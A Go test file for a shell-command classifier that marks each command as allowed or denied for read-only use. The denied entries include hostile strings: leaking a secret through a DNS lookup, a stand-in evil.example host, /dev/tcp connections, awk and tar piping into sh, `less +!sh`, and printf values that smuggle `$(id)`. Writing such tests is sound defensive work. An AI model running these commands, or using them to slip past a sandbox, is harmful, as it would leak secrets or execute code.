package shellread

import "testing"

// The program-layer classes of issue 31: each program judged by its own
// argument parser, and its state-setting and network operands refused.
func TestProgramParserClasses(t *testing.T) {
	judge(t, "a value-taking option swallows --", []verdict{
		{"sort -T -- -o F f", D}, {"rg -e -- --pre=rm x .", D}, {"git log --decorate-refs -- --output=F", D},
		{"sort -k -- -o F f", D}, {"grep -e -- -r x .", A},
	})
	judge(t, "git config stops at its first operand", []verdict{
		{"git config core.fsmonitor CMD --get", D}, {"git config user.name --get", D},
		{"git config --get user.name", A}, {"git config --list", A},
	})
	judge(t, "option grammars that are the program's own", []verdict{
		{"tree -Lo 1 F", D}, {"tree -L 1 -o F", D}, {"journalctl -n --cursor-file=F", D},
		{"journalctl -n5 --no-pager", A}, {"journalctl -n 5", A}, {"xxd IN -OUT", D}, {"xxd IN OUT", D},
		{"xxd -p IN", A}, {"find . -{d..d}elete", D}, {"rg --hostname-bin=PROG x", D}, {"file -p f", D},
		{"file --preserve-date f", D}, {"file -b f", A}, {"uniq f -c", D}, {"sort f --output=F", D},
		{"sort f --out F", D}, {"tree -L 2 .", A},
	})
	judge(t, "state and network", []verdict{
		{"date 0101000030", D}, {"date -u 0101000030", D}, {"date +%s", A}, {"date -d @0 +%F", A},
		{"hostname -y -- NAME", D}, {"hostname NAME", D}, {"hostname -s", A},
		{`getent hosts "$SECRET.example"`, D}, {"getent hosts evil.example", D}, {"getent ahosts x.example", D},
		{"getent passwd root", A}, {"getent hosts localhost", D}, {"ss -tn state established", D}, {"ss -r", D}, {"ss -tln -f inet", D}, {`getent passwd "$USER"`, D}, {`getent -- passwd "$USER"`, A}, {"getent -s dns passwd x", D},
		{"docker -H tcp://10.0.0.1:2375 ps", D}, {"docker --host=tcp://x ps", D}, {"docker ps", A},
		{"printf %n PATH", D}, {"printf 'a%nb' PATH", D}, {"printf '%s%n' a PATH", D},
		{"printf %d 'path[$(cmd)]'", D}, {"printf '%5.*f' 'a[$(id)]' 1", D}, {"printf %d 42", A},
		{"printf '%s\\n' a b", A}, {"printf '%x %d\\n' 255 -3", A},
		{"cat /dev/tcp/10.0.0.1/80", D}, {"cat /dev/udp/h/53", D}, {"cat /dev//tcp/h/1", D},
	})
}

// Everyday reading of the families issue 31 opens.
func TestProgramBreadth(t *testing.T) {
	judge(t, "now allowed", []verdict{
		{"awk '{print $1}' f | sort | uniq -c", A}, {"env | sort", A}, {"go version", A}, {"go env GOPATH", A},
		{"od -c f | head", A}, {"less f", A}, {"awk -F: '{print $1}' /etc/passwd", A}, {"awk 'NR==1' f", A},
		{"awk '$3 > 10 {print $1}' f", A}, {"awk '{ print ($1 > $2) }' f", A}, {"xargs cat", A}, {"xargs grep -l x", A}, {"awk '/a|b/ {n++} END {print n}' f", A},
		{"find . -name '*.go' | xargs wc -l", A}, {"xargs -0 grep -l x", A}, {"env ls", A}, {"nice ls", A},
		{"tar -tf a.tar", A}, {"tar tzf a.tgz", A}, {"gzip -l a.gz", A}, {"zcat a.gz", A}, {"base64 f", A},
		{"base64 -d f", A}, {"dmesg", A}, {"dmesg -T", A}, {"fd -e go", A}, {"fdfind x", A},
		{"git reflog", A}, {"git for-each-ref", A}, {"git merge-base a b", A}, {"git rev-list --count HEAD", A},
		{"git show-branch", A}, {"git name-rev HEAD", A}, {"git cat-file -t HEAD", A}, {"git diff-tree HEAD", A},
		{"git diff-index HEAD", A}, {"git diff-files", A}, {"git count-objects -v", A},
		{"git check-ignore x", A}, {"git var GIT_AUTHOR_IDENT", A},
		{"docker container ls", A}, {"docker image ls", A}, {"docker compose ps", A}, {"docker compose config", A},
		{"docker compose logs web", A}, {"go env", A}, {"go list -m", A}, {"more f", A}, {"less -N f", A},
	})
	judge(t, "still denied", []verdict{
		{"awk 'BEGIN{system(\"touch F\")}'", D}, {"awk '{print > \"F\"}' f", D}, {"awk '{print | \"sh\"}' f", D},
		{"awk '{\"date\" | getline d}'", D}, {"awk 'BEGIN{ENVIRON[\"X\"]=1}'", D}, {"awk -f prog.awk f", D},
		{"awk '{printf \"%s\", $0 > \"F\"}' f", D}, {"awk '@load \"x\"'", D}, {"gawk -o F 1 f", D},
		{"xargs rm", D}, {"xargs -I{} touch {}", D}, {"env rm f", D}, {"env -S 'rm f'", D}, {"env PATH=/tmp ls", D},
		{"nice rm f", D}, {"sed -l 'w OUT' f", D}, {"sed -l 5 p f", A}, {"env -P /tmp ls", D}, {"env -- sort -o F f", D},
		{"awk '/[/]/ { print | \"sh\" }'", D}, {"xargs sort", D}, {"xargs uniq", D}, {"xargs git log", D}, {"xargs env", D},
		{"awk '{ print $1 > $2 }' f", D}, {"awk 'BEGIN { printf(\"x\") > \"F\" }'", D}, {"awk -- 'BEGIN{system(\"x\")}'", D},
		{"awk -W exec x", D}, {"awk -e 'BEGIN{system(\"x\")}'", D}, {"nice -n 5 touch F", D}, {"xargs sh -c 'rm x'", D},
		{"tar -xf a.tar", D}, {"tar -cf a.tar f", D}, {"tar tf a.tar --to-command=sh", D}, {"tar -t -f host:a.tar", D}, {"tar -t --use-compress-program=sh -f a", D},
		{"gzip f", D}, {"gzip -d f", D}, {"gzip -r .", D}, {"base64 -o F f", D}, {"dmesg -c", D}, {"dmesg -C", D}, {"dmesg --clear", D},
		{"fd -x rm", D}, {"fd -X rm", D}, {"fd --exec rm", D},
		{"git ls-remote", D}, {"git fetch", D}, {"git reflog expire --all", D}, {"git reflog delete HEAD@{1}", D},
		{"git for-each-ref --format='%(refname)' --output=F", D},
		{"docker container rm x", D}, {"docker image rm x", D}, {"docker compose up", D}, {"docker compose config -o F", D},
		{"go env -w GOFLAGS=x", D}, {"go env -u GOFLAGS", D}, {"go list -m -u all", D}, {"go build", D}, {"go run .", D},
		{"go list -mod=mod ./...", D}, {"go list ./...", D}, {"less +!sh f", D}, {"less -k keys f", D}, {"less '+!rm x' f", D},
		{"less --lesskey-file=k f", D}, {"less +G f", A}, {"less +F f", A}, {"less +v f", D}, {"less '+|sh' f", D},
		{"command -v go", A}, {"command ls -la", A}, {"command rm f", D}, {"command -p sort -o F f", D}, {"command $X", D},
		{"tac f", A}, {"nproc", A}, {"printenv PATH", A}, {"sha1sum f", A}, {"paste a b", A}, {"more +v f", D}, {"more +/x f", A}, {"less -o F f", D}, {"less -O F f", D},
	})
}

// git's reading subcommands, each parsed by its own table.
func TestGitSubcommandTables(t *testing.T) {
	judge(t, "git", []verdict{
		{"git log --onel", A}, {"git log --no-such-option", D}, {"git status --porcelain=v2", A},
		{"git diff --outp=F", D}, {"git grep -O x", D}, {"git grep --open-files-in-pager x", D},
		{"git log --grep -- --output=F", D}, {"git show --ext-diff HEAD", D}, {"git diff-tree --output=F HEAD", D},
		{"git reflog show --oneline", A}, {"git reflog expire --all", D}, {"git log -S foo", A},
		{"git log --decorate-refs=x --oneline", A}, {"git blame -L 1,5 f", A}, {"git cat-file -p HEAD", A},
		{"git for-each-ref --format='%(refname)' refs/heads", A}, {"git ls-files --others --exclude-standard", A},
	})
}
